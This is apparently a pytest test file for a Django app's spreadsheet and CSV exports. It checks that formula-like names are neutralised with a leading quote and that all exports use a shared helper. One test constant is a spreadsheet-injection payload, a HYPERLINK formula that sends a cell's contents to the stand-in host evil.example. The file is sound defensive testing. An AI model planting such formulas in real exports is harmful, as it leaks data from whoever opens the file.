"""Finding 8: a name like ``=HYPERLINK(...)`` never becomes a live formula in an export."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from tests.conftest import login
from tests.factories import person
from tests.funds.conftest import make_beneficiary
from zeren.core.exports import csv_bytes, neutralise, workbook
from zeren.core.models import SecurityEvent
from zeren.funds.models import PaymentBatch

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("张三", "张三"),
        ("", ""),
        (-5, -5),  # numbers stay numbers
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        names = [n for n in zf.namelist() if n.startswith("xl/")]
        return "".join(zf.read(n).decode() for n in names if n.endswith(".xml"))


def test_the_workbook_writes_formula_like_text_as_text():
    out = io.BytesIO()
    book = workbook(out)
    sheet = book.add_worksheet("表")
    sheet.write(0, 0, HOSTILE)
    sheet.write_row(1, 0, ["@x", "+1", 7])
    sheet.write_string(2, 0, "-1")
    book.close()
    xml = _sheet_xml(out.getvalue())
    assert "<f>" not in xml  # no formula cell anywhere
    rows = CalamineWorkbook.from_filelike(io.BytesIO(out.getvalue())).get_sheet_by_name("表")
    assert rows.to_python()[0][0] == "'" + HOSTILE
    assert rows.to_python()[1] == ["'@x", "'+1", 7.0]


def test_csv_cells_are_neutralised():
    text = csv_bytes([["姓名"], [HOSTILE], ["-1"]]).decode("utf-8-sig")
    assert [r[0] for r in csv.reader(io.StringIO(text))] == ["姓名", "'" + HOSTILE, "'-1"]


@pytest.mark.django_db
def test_the_person_export_keeps_a_hostile_name_as_text(staff_a, village_a):
    person(actor=staff_a, division=village_a, name=HOSTILE[:50], address="@地址")
    content = login(staff_a).get("/staff/persons/export.xlsx").content
    assert "<f>" not in _sheet_xml(content)
    row = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("相对人")
    assert row.to_python()[1][0] == "'" + HOSTILE[:50] and row.to_python()[1][7] == "'@地址"


@pytest.mark.django_db
def test_the_bank_file_is_neutralised_and_logged_with_its_row_count(section_staff, village_a):
    make_beneficiary(village=village_a, name="=1+1")
    make_beneficiary(village=village_a, name="李四")
    county = login(section_staff)
    county.post(reverse("funds-batch-list"), {"program": "special", "period_of": "2026-03-01"})
    batch = PaymentBatch.objects.get()
    county.post(reverse("funds-batch-issue", args=[batch.pk]), {"issued_on": "2026-03-05"})
    content = county.get(reverse("funds-batch-bank-file", args=[batch.pk])).content
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("代发明细")
    names = [r[1] for r in rows.to_python()][1:]
    assert sorted(names) == ["'=1+1", "李四"]
    event = SecurityEvent.objects.get(kind="export", detail__what="银行代发文件")
    assert event.detail["rows"] == 2


def test_every_export_goes_through_the_core_helper():
    """No module writes a workbook or CSV around :mod:`zeren.core.exports`.

    ``core/spreadsheets.py`` (import error sheets and templates) belongs to the uploads work
    and is listed until it moves to the helper."""
    src = Path(__file__).resolve().parents[2] / "src" / "zeren"
    pending = {"core/spreadsheets.py"}
    offenders = [
        str(p.relative_to(src))
        for p in src.rglob("*.py")
        if str(p.relative_to(src)) not in pending | {"core/exports.py"}
        and re.search(r"xlsxwriter\.Workbook\(|csv\.writer\(", p.read_text())
    ]
    assert offenders == []
